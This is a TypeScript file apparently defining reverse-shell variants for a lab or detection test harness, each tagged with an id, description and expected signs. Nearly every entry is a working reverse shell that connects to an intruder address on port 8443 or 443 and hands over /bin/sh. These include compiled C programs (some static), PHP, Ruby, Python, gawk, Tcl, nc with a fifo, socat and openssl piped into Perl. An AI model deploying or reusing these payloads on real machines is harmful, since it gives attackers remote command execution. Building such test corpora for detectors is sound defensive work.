import {connects, lines, python, pythonFile, stays, throughBash, written} from '../stage/scripts.ts';
import type {Variant} from '../stage/variant.ts';

type Given = Pick<Variant, 'id' | 'does' | 'start' | 'kind'> & Partial<Variant>;

const port = 8443;

/** Compiles a program whose `connected()` returns a connection to the intruder, and runs it. */
const compiled = (path: string, to: number, main: string, flags = ''): string => `mkdir -p "$(dirname ${path})"
cat > /srv/$ID.c <<'END_OF_C'
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>
static int connected(void) {
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(${to})};
  inet_pton(AF_INET, "$THERE", &to.sin_addr);
  int s = socket(AF_INET, SOCK_STREAM, 0);
  if (connect(s, (void *)&to, sizeof to)) exit(1);
  return s;
}
int main(void) {
  int s = connected();
  char b[4096];
  int n;
${main}
}
END_OF_C
gcc -w ${flags} -o ${path} /srv/$ID.c
exec ${path}`;

const handsOver = 'for (n = 0; n < 3; n++) dup2(s, n); execl("/bin/sh", "sh", (char *)0);';
const runsEach = `while ((n = read(s, b, sizeof b - 1)) > 0) {
  b[n] = 0;
  FILE *p = popen(b, "r");
  while ((n = fread(b, 1, sizeof b, p)) > 0) write(s, b, n);
  pclose(p);
}`;
const passesOn = `int in[2], out[2];
pipe(in);
pipe(out);
if (!fork()) { dup2(in[0], 0); dup2(out[1], 1); execl("/bin/sh", "sh", (char *)0); }
if (!fork()) { while ((n = read(out[0], b, sizeof b)) > 0) write(s, b, n); exit(0); }
while ((n = read(s, b, sizeof b)) > 0) write(in[1], b, n);`;

const gawk = `BEGIN {s = "/inet/tcp/0/$THERE/${port}"
while ((s |& getline c) > 0) { while ((c | getline o) > 0) print o |& s; close(c) }}`;
const tcl = `set s [socket $THERE ${port}]
fconfigure $s -buffering line
while {[gets $s l] >= 0} { catch {exec sh -c $l} o; puts $s $o }`;

const given: readonly Given[] = [
  {
    kind: 1,
    id: 'php-proc-open',
    does: 'PHP proc_open with the connection for all three',
    start:
      `exec php -r '$s = fsockopen("$THERE", ${port}); ` +
      `$p = proc_open("sh", [$s, $s, $s], $x); while (true) sleep(1);'`,
    needs: ['php'],
  },
  {
    kind: 1,
    id: 'ruby-exec',
    does: 'Ruby reopen, exec sh',
    start: `exec ruby -rsocket -e 's = TCPSocket.new("$THERE", ${port})
[$stdin, $stdout, $stderr].each { |e| e.reopen(s) }
exec "/bin/sh"'`,
    needs: ['ruby'],
  },
  {kind: 1, id: 'c-shell', does: 'a program that becomes sh', start: compiled('/usr/local/bin/$ID', port, handsOver)},
  {
    kind: 2,
    id: 'static-shell-443',
    does: 'a static program that becomes sh, to 443',
    start: compiled('/opt/$ID/agent', 443, handsOver, '-static'),
    waits: {tcp: 443},
  },
  {
    kind: 3,
    id: 'sed-between',
    does: 'mkfifo, nc, with tee and sed between',
    start: `mkfifo /tmp/$ID.fifo
nc.openbsd $THERE ${port} < /tmp/$ID.fifo | tee /tmp/$ID.log | sh 2>&1 | sed -u "" > /tmp/$ID.fifo`,
  },
  {
    kind: 3,
    id: 'unix-socket-between',
    does: 'socat to a UNIX socket, at which another socat runs sh',
    start: `socat UNIX-LISTEN:/srv/$ID.sock EXEC:/bin/sh,stderr &
while [ ! -S /srv/$ID.sock ]; do sleep 0.02; done
exec socat TCP:$THERE:${port} UNIX-CONNECT:/srv/$ID.sock`,
  },
  {
    kind: 3,
    id: 'given-descriptor',
    does: 'the connection is passed to a process that becomes sh',
    start: python(
      lines(
        connects('tcp', port),
        'a, b = socket.socketpair()',
        'if os.fork():',
        '  socket.send_fds(a, [b"x"], [s.fileno()])',
        '  s.close()',
        `  ${stays}`,
        'a.close()',
        's.close()',
        'fds = socket.recv_fds(b, 1, 1)[1]',
        'for n in (0, 1, 2): os.dup2(fds[0], n)',
        'os.execv("/bin/sh", ["sh"])',
      ),
    ),
  },
  {
    kind: 3,
    id: 'c-pipes',
    does: 'a program that passes bytes to sh by pipes',
    start: compiled('/usr/local/bin/$ID', port, passesOn),
  },
  {
    kind: 6,
    id: 'static-pipes-443',
    does: 'a static program that passes bytes to sh, to 443',
    start: compiled('/opt/$ID/agent', 443, passesOn, '-static'),
    waits: {tcp: 443},
  },
  {
    kind: 4,
    id: 'c-popen',
    does: 'a program of no package runs each order, one shell after the other',
    start: compiled('/usr/local/bin/$ID', port, runsEach),
  },
  {
    kind: 4,
    id: 'gawk-script',
    does: 'gawk /inet runs each order, from a file',
    start: `${written('/srv/$ID.awk', gawk)}\nexec gawk -f /srv/$ID.awk`,
    needs: ['gawk'],
  },
  {
    kind: 4,
    id: 'tcl-script',
    does: 'Tcl runs each order, from a file',
    start: `${written('/srv/$ID.tcl', tcl)}\nexec tclsh /srv/$ID.tcl`,
    needs: ['tclsh'],
  },
  {
    kind: 6,
    id: 'openssl-into-perl-443',
    does: 'mkfifo, openssl s_client, Perl runs each order',
    start: `mkfifo /tmp/$ID.fifo
openssl s_client -quiet -connect $THERE:443 2> /dev/null < /tmp/$ID.fifo |
  perl -ne 'BEGIN {$| = 1} print qx($_)' > /tmp/$ID.fifo`,
    isTls: true,
    waits: {tcp: 443},
  },
  {
    kind: 6,
    id: 'child-of-init-443',
    does: 'Python passes bytes by a pair of sockets to a sh that is no child of it',
    start: pythonFile(
      '/srv/$ID.py',
      lines(
        connects('tcp', 443),
        'import subprocess, threading',
        'a, b = socket.socketpair()',
        'subprocess.Popen(["setsid", "-f", "sh"], stdin=b, stdout=b, stderr=b)',
        'b.close()',
        'def back():',
        '  while data := a.recv(4096): s.sendall(data)',
        'threading.Thread(target=back).start()',
        'while data := s.recv(4096): a.sendall(data)',
      ),
    ),
    waits: {tcp: 443},
  },
  {
    kind: 5,
    id: 'lua-interactive',
    does: 'lua -i',
    start: throughBash(port, 'lua5.4 -i'),
    answers: 'print("pw"..42)',
    needs: ['lua5.4'],
  },
];

/** Shells by programs and languages that the other scenarios do not use. */
export const otherLanguages: readonly Variant[] = given.map(each => ({
  signs: ['owner-relay', 'owner-shell', 'owner-script'],
  waits: {tcp: port},
  answers: true,
  ...each,
}));
